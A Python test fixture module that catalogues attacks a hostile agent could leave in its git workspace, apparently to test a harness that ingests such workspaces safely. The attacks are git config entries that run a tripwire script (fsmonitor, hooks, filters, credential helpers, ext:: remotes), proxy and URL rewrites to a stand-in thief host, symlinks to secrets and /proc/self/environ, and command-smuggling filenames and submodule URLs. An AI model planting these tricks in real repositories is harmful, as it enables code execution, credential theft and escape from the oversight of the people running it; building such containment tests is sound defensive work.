"""What a hostile agent can leave in its workspace. Each attack plants itself; a tripwire and a secret lie outside."""

from __future__ import annotations

import os
import shutil
import socket
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

SECRET = b"canary-5d1f: another tenant's secret"


@dataclass(frozen=True)
class Trap:
    """`program` leaves a mark when anybody runs it; `secret` and `vault/` must never be read, nobody calls at `thief`, and the objects
    of another session that the mirror holds are published by none."""

    folder: Path
    thief: str = "http://127.0.0.1:1/"
    foreign_blob: str = "1" * 40
    foreign_tree: str = "2" * 40

    @property
    def mark(self) -> Path:
        return self.folder / "it-ran"

    @property
    def program(self) -> Path:
        return self.folder / "program.sh"

    @property
    def secret(self) -> Path:
        return self.folder / "vault" / "app.py"

    def set(self) -> Trap:
        (self.folder / "vault").mkdir(parents=True)
        self.secret.write_bytes(SECRET)
        self.program.write_text(f"#!/bin/sh\necho ran >> {self.mark}\ncat\n")
        self.program.chmod(0o755)
        return self


Plant = Callable[[Path, Trap], None]


@dataclass(frozen=True)
class Attack:
    """`told` are the reasons for which something is left out, or taken otherwise."""

    plant: Plant
    told: frozenset[str]


ATTACKS: dict[str, Attack] = {}


def attack(*told: str) -> Callable[[Plant], Plant]:
    def register(plant: Plant) -> Plant:
        ATTACKS[plant.__name__] = Attack(plant, frozenset(told))
        return plant

    return register


def _config(workspace: Path, text: str) -> None:
    with (workspace / ".git/config").open("a") as config:
        config.write(text)


@attack()
def fsmonitor(workspace: Path, trap: Trap) -> None:
    _config(workspace, f"[core]\n\tfsmonitor = {trap.program}\n")


@attack()
def hooks_path(workspace: Path, trap: Trap) -> None:
    hooks = workspace / ".git/hooks"
    hooks.mkdir(exist_ok=True)
    for name in ("pre-commit", "post-checkout", "pre-push", "reference-transaction", "post-index-change", "prepare-commit-msg"):
        shutil.copy(trap.program, hooks / name)
    _config(workspace, f"[core]\n\thooksPath = {hooks}\n")


@attack()
def clean_and_smudge_filter(workspace: Path, trap: Trap) -> None:
    _config(
        workspace, f'[filter "x"]\n\tclean = {trap.program}\n\tsmudge = {trap.program}\n\tprocess = {trap.program}\n\trequired = true\n'
    )
    (workspace / ".gitattributes").write_text("* filter=x diff=x merge=x\n")


@attack()
def diff_and_merge_drivers(workspace: Path, trap: Trap) -> None:
    _config(workspace, f'[diff]\n\texternal = {trap.program}\n[diff "x"]\n\ttextconv = {trap.program}\n\tcommand = {trap.program}\n')
    _config(workspace, f'[merge "x"]\n\tdriver = {trap.program}\n')
    (workspace / ".gitattributes").write_text("* diff=x merge=x\n")


@attack()
def programs_in_the_configuration(workspace: Path, trap: Trap) -> None:
    run = trap.program
    _config(
        workspace,
        f"[commit]\n\tgpgSign = true\n[gpg]\n\tprogram = {run}\n[core]\n\tsshCommand = {run}\n\taskPass = {run}\n\tpager = {run}\n",
    )
    _config(workspace, f"\teditor = {run}\n\tgitProxy = {run}\n[credential]\n\thelper = !{run}\n[alias]\n\tadd = !{run}\n\tpush = !{run}\n")
    _config(workspace, f'[remote "origin"]\n\turl = ext::{run}\n\tuploadpack = {run}\n\treceivepack = {run}\n\tpromisor = true\n')


@attack()
def include_path(workspace: Path, trap: Trap) -> None:
    (workspace / "more.conf").write_text(f"[core]\n\tfsmonitor = {trap.program}\n")
    _config(workspace, '[include]\n\tpath = ../more.conf\n[includeIf "gitdir:**"]\n\tpath = ../more.conf\n')


@attack()
def url_rewriting_and_proxy(workspace: Path, trap: Trap) -> None:
    _config(workspace, f'[url "{trap.thief}"]\n\tinsteadOf = http\n\tpushInsteadOf = http\n[http]\n\tproxy = {trap.thief}\n')


@attack()
def credentials_that_are_collected(workspace: Path, trap: Trap) -> None:
    _config(workspace, f"[credential]\n\thelper = store --file={workspace}/.git/collected\n[http]\n\tcookieFile = .git/cookies\n")
    _config(workspace, f'\tsaveCookies = true\n\textraHeader = X: y\n\tsslVerify = false\n[remote "origin"]\n\turl = {trap.thief}\n')
    _config(workspace, f'\tproxy = {trap.thief}\n\tpushurl = {trap.thief}\n[branch "main"]\n\tremote = origin\n')


@attack()
def a_partial_clone_that_promises(workspace: Path, trap: Trap) -> None:
    _config(workspace, f'[extensions]\n\tpartialClone = origin\n[remote "origin"]\n\turl = {trap.thief}\n\tpromisor = true\n')
    _config(workspace, f"\tpartialclonefilter = blob:none\n\tuploadpack = {trap.program}\n\tvcs = {trap.program}\n")
    for pack in (workspace / ".git/objects/pack").glob("*.pack"):
        pack.with_suffix(".promisor").touch()


@attack()
def worktree_elsewhere(workspace: Path, trap: Trap) -> None:
    _config(workspace, f"[core]\n\tworktree = {trap.secret.parent}\n[extensions]\n\tworktreeConfig = true\n")


@attack("COMMITS_NOT_KEPT")
def git_is_a_file(workspace: Path, trap: Trap) -> None:
    shutil.move(workspace / ".git", workspace / "moved")
    (workspace / "moved/config").write_text(f"[core]\n\tfsmonitor = {trap.program}\n")
    (workspace / ".git").write_text("gitdir: moved\n")


@attack("COMMITS_NOT_KEPT")
def git_is_a_symlink(workspace: Path, trap: Trap) -> None:
    shutil.rmtree(workspace / ".git")
    (workspace / ".git").symlink_to(trap.secret.parent)


@attack()
def git_is_gone(workspace: Path, trap: Trap) -> None:
    del trap
    shutil.rmtree(workspace / ".git")


@attack("GIT_DIRECTORY")
def nested_repository_with_filter(workspace: Path, trap: Trap) -> None:
    nested = workspace / "nested"
    shutil.copytree(workspace / ".git", nested / ".git", dirs_exist_ok=True)
    (nested / ".git/config").write_text(
        f'[core]\n\trepositoryformatversion = 0\n\tfsmonitor = {trap.program}\n[filter "x"]\n\tclean = {trap.program}\n'
    )
    (nested / ".gitattributes").write_text("* filter=x\n")
    (nested / "file").write_text("x")


@attack()
def alternates_and_grafts(workspace: Path, trap: Trap) -> None:
    info = workspace / ".git/objects/info"
    info.mkdir(parents=True, exist_ok=True)
    (info / "alternates").write_text(f"{trap.secret.parent}\n")
    (info / "http-alternates").write_text("http://127.0.0.1:1/\n")
    (workspace / ".git/shallow").write_text("0" * 40)


@attack("COMMITS_NOT_KEPT")
def broken_objects_and_refs(workspace: Path, trap: Trap) -> None:
    del trap
    pack = workspace / ".git/objects/pack"
    for file in pack.iterdir():
        file.chmod(0o644)
        file.write_bytes(b"PACK" + os.urandom(100))
    (workspace / ".git/HEAD").write_text("ref: refs/heads/--upload-pack=touch\n")
    (workspace / ".git/packed-refs").write_text("x" * 1000)
    (workspace / ".git/index").write_bytes(b"DIRC" + os.urandom(100))


@attack("BAD_GITMODULES")
def gitmodules_with_options_for_urls(workspace: Path, trap: Trap) -> None:
    (workspace / ".gitmodules").write_text(f'[submodule "x"]\n\tpath = x\n\turl = --upload-pack={trap.program}\n')


@attack("BAD_GITMODULES")
def gitmodules_with_commands(workspace: Path, trap: Trap) -> None:
    (workspace / ".gitmodules").write_text(f'[submodule "../../hooks"]\n\tpath = -x\n\turl = ./x\n\tupdate = !{trap.program}\n')


@attack("BAD_GITMODULES")
def gitmodules_is_a_symlink(workspace: Path, trap: Trap) -> None:
    (workspace / ".gitmodules").unlink(missing_ok=True)
    (workspace / ".gitmodules").symlink_to(trap.secret)
    (workspace / "gitmod~1").write_text('[submodule "x"]\n\turl = -x\n')
    (workspace / ".git\u200cmodules").write_text('[submodule "x"]\n\turl = -x\n')


@attack("BAD_GITATTRIBUTES")
def attributes_that_git_refuses(workspace: Path, trap: Trap) -> None:
    (workspace / ".gitattributes").write_text("* " + "x" * 10_000 + "\n")
    (workspace / "sub").mkdir(exist_ok=True)
    (workspace / "sub/.gitattributes").unlink(missing_ok=True)
    (workspace / "sub/.gitattributes").symlink_to(trap.secret)


@attack("GIT_DIRECTORY")
def names_that_fold_to_git(workspace: Path, trap: Trap) -> None:
    for name in (
        ".GIT",
        ".Git",
        "git~1",
        "GIT~1",
        ".g\u200cit",
        ".git ",
        ".git.",
        ".git . .",
        ".git::$INDEX_ALLOCATION",
        ".git\ufeff",
        "a\\.git\\b",
    ):
        for parent in (workspace, workspace / "docs"):
            folder = parent / name
            folder.mkdir(parents=True, exist_ok=True)
            (folder / "config").write_text(f"[core]\n\tfsmonitor = {trap.program}\n")
            (folder / "HEAD").write_text("ref: refs/heads/main\n")


@attack()
def symlinks_out_of_the_tree(workspace: Path, trap: Trap) -> None:
    for name, target in (
        ("s1", trap.secret),
        ("s2", trap.secret.parent),
        ("s3", Path("/proc/self/environ")),
        ("s4", Path("/proc/self/fd/0")),
    ):
        (workspace / name).unlink(missing_ok=True)
        (workspace / name).symlink_to(target)


@attack()
def a_known_directory_becomes_a_symlink_to_a_secret(workspace: Path, trap: Trap) -> None:
    if (workspace / "src").is_dir() and not (workspace / "src").is_symlink():
        shutil.rmtree(workspace / "src")
        (workspace / "src").symlink_to(trap.secret.parent)


@attack()
def a_known_file_becomes_a_symlink_to_a_secret(workspace: Path, trap: Trap) -> None:
    (workspace / "README.md").unlink()
    (workspace / "README.md").symlink_to(trap.secret)


@attack("NOT_A_FILE")
def fifos_and_sockets(workspace: Path, trap: Trap) -> None:
    del trap
    os.mkfifo(workspace / "fifo")
    (workspace / ".gitignore").unlink(missing_ok=True)
    os.mkfifo(workspace / ".gitignore")
    here = Path.cwd()
    os.chdir(workspace)  # socket paths are short
    try:
        with socket.socket(socket.AF_UNIX) as bound:
            bound.bind("socket")
    finally:
        os.chdir(here)


@attack("TOO_LARGE")
def sparse_ten_gibibytes(workspace: Path, trap: Trap) -> None:
    del trap
    for name in ("sparse", "README.md", ".gitignore", ".gitmodules"):
        with (workspace / name).open("wb") as file:
            file.truncate(10 * 1024**3)


@attack("TOO_LARGE")
def files_that_are_too_large(workspace: Path, trap: Trap) -> None:
    del trap
    for name in ("dense", "src/app.py"):
        (workspace / name).unlink(missing_ok=True)
        with (workspace / name).open("wb") as file:
            file.write(bytes(2 * 1024**2))


@attack()
def powers_and_bits(workspace: Path, trap: Trap) -> None:
    """What a checkout would make into a program of root's."""
    shutil.copy(trap.program, workspace / "setuid")
    (workspace / "setuid").chmod(0o6777)
    (workspace / "README.md").chmod(0o4755)


@attack()
def names_that_some_systems_take_for_others(workspace: Path, trap: Trap) -> None:
    del trap
    names = ["readme.md", "README.md ", "README.md.", "CON", "aux.c", "C:\\x", "a:b", "\u202etxt.exe", "~"]
    for name in [*names, "re\u0301sume\u0301", "r\u00e9sum\u00e9"]:
        (workspace / name).write_text(name)
    (workspace / "SRC").mkdir(exist_ok=True)
    (workspace / "SRC/app.py").write_text("another one")


@attack("BAD_GITATTRIBUTES", "BAD_GITMODULES")
def directories_in_the_place_of_git_s_own_files(workspace: Path, trap: Trap) -> None:
    del trap
    for name in (".gitignore", ".gitattributes", ".gitmodules", ".lfsconfig", ".mailmap"):
        if (workspace / name).is_file():
            (workspace / name).unlink()
        (workspace / name / "inside").mkdir(parents=True, exist_ok=True)
        (workspace / name / "inside/x").write_text("x")


@attack("TOO_DEEP")
def a_very_deep_tree(workspace: Path, trap: Trap) -> None:
    del trap
    here = Path.cwd()
    os.chdir(workspace)
    try:
        for _ in range(300):
            Path("d").mkdir()
            os.chdir("d")
    finally:
        os.chdir(here)


@attack("TOO_MANY")
def more_entries_than_allowed(workspace: Path, trap: Trap) -> None:
    del trap
    for folder in ("aaa/1", "aaa/2", "zzz"):
        (workspace / folder).mkdir(parents=True, exist_ok=True)
        for number in range(400):
            (workspace / folder / f"{number:04}").write_text("x")
    for number in range(400):
        (workspace / "aaa" / f"empty{number}").mkdir(exist_ok=True)


@attack()
def names_that_confuse(workspace: Path, trap: Trap) -> None:
    del trap
    for name in (
        b"-rf",
        b"--upload-pack=x",
        b"a\nb",
        b"\xff\xfe",
        b"$(id)",
        b'"',
        b"\t",
        b"x" * 255,
        b"\xff" * 255,
        b"HEAD",
        b"%2e%2e",
        b"\\..\\x",
    ):
        (workspace / os.fsdecode(name)).write_text("x")
    folder = workspace / os.fsdecode(b"\xff" * 200)
    folder.mkdir(exist_ok=True)
    (folder / ".gitignore").write_text("*.log\n")


@attack()
def a_gitignore_that_burns_time(workspace: Path, trap: Trap) -> None:
    del trap
    rules = [
        "a*" * 400 + "b",
        "**/" * 300 + "x",
        "[" * 900,
        "[!" + "a-" * 400,
        "b\\",
        "\0",
        "[[:nope:]]",
        "**a**a**a**a**a**b",
        "*a*a*a*a*a*b",
    ]
    (workspace / ".gitignore").write_text("\n".join(rules * 50) + "\n!honest*\n")
    (workspace / ("a" * 250)).write_text("x")
    (workspace / "d").mkdir(exist_ok=True)
    (workspace / "d" / ("a" * 250)).write_text("x")
    (workspace / "d/.gitignore").unlink(missing_ok=True)
    (workspace / "d/.gitignore").symlink_to("/dev/zero")


@attack()
def a_gitignore_that_hides_known_files(workspace: Path, trap: Trap) -> None:
    del trap
    (workspace / ".gitignore").write_text("/src\n/README.md\n")


@attack("UNREADABLE")
def closed_doors(workspace: Path, trap: Trap) -> None:
    del trap
    (workspace / "docs").chmod(0)
    (workspace / "README.md").chmod(0)
    (workspace / "locked").mkdir(exist_ok=True)
    (workspace / "locked/x").write_text("x")
    (workspace / "locked").chmod(0)
